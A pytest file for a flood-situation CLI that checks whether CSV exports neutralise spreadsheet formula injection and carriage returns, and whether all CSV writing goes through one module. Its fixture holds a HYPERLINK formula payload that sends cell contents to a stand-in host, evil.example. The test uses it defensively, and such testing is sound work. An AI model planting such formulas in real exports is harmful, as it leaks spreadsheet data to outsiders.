"""Every CSV the product writes goes through ``ops.exports`` (issue 14, finding 14): the
situation and list-items commands with a formula for a station name and a carriage return
in an owner's name, and a scan of the tree for any other CSV writer."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from sqlalchemy import text

from cli import main
from store import checklists
from store.db import make_engine
from tests.checklists.conftest import TEMPLATE
from tests.support.ci import reference_path

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"M.7")'


@pytest.fixture
def cli_db(tmp_path, monkeypatch):
    monkeypatch.setenv("DATA_DIR", str(tmp_path / "data"))
    monkeypatch.delenv("DATABASE_URL", raising=False)
    assert main(["migrate"]) == 0
    return make_engine(f"sqlite:///{tmp_path / 'data' / 'floodroom.sqlite3'}")


def rows_of(out: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(out, newline="")))


def test_situation_csv_neutralises_a_station_named_as_a_formula(cli_db, capsys):
    assert (
        main(
            [
                "ingest",
                "--source",
                "thaiwater",
                "--from-file",
                str(reference_path("thaiwater", "hii_public_thailand_2020-06-29_waterlevel.json")),
            ]
        )
        == 0
    )
    with cli_db.begin() as conn:
        conn.execute(text("UPDATE water_stations SET name_en = :n WHERE station_code = 'M.7'"), {"n": FORMULA})
    capsys.readouterr()
    assert main(["situation", "--format", "csv", "--at", "2020-06-29T13:30"]) == 0
    rows = rows_of(capsys.readouterr().out)
    cells = [c for row in rows for c in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    level = rows[0].index("level_m_msl")
    assert all(re.fullmatch(r"-?\d+(\.\d+)?|", row[level]) for row in rows[1:])  # numbers stay numbers


def test_list_items_csv_keeps_a_carriage_return_inside_its_cell(cli_db, capsys):
    assert main(["load-template", str(TEMPLATE)]) == 0
    assert main(["open-event", "Mun flood", "--districts", "3401,3415"]) == 0
    event_id = checklists.open_event_ids(cli_db)[0]
    items = checklists.items_frame(cli_db, event_id)
    first = int(items[items["district_code"] == "3415"]["id"].iloc[0])
    with cli_db.begin() as conn:
        conn.execute(
            text("UPDATE checklist_items SET owner_person = :p WHERE id = :i"), {"p": "Somchai\r=1+2", "i": first}
        )
    capsys.readouterr()
    assert main(["list-items", "--district", "3415", "--format", "csv"]) == 0
    rows = rows_of(capsys.readouterr().out)
    assert len(rows) == 1 + (items["district_code"] == "3415").sum()  # one row per item, none split
    owner = rows[0].index("owner_person")
    assert [r[owner] for r in rows[1:] if r[owner]] == ["Somchai\r=1+2"]  # quoted whole; starts with text
    assert not [c for row in rows for c in row if c.startswith(("=", "+", "@"))]


def test_no_csv_is_written_outside_ops_exports():
    writers = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(")
    found = [
        f"{p.relative_to(ROOT)}:{i}"
        for p in ROOT.rglob("*.py")
        if not {".venv", "tests", "bench"} & set(p.relative_to(ROOT).parts) and p != ROOT / "ops" / "exports.py"
        for i, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1)
        if writers.search(line)
    ]
    assert found == []
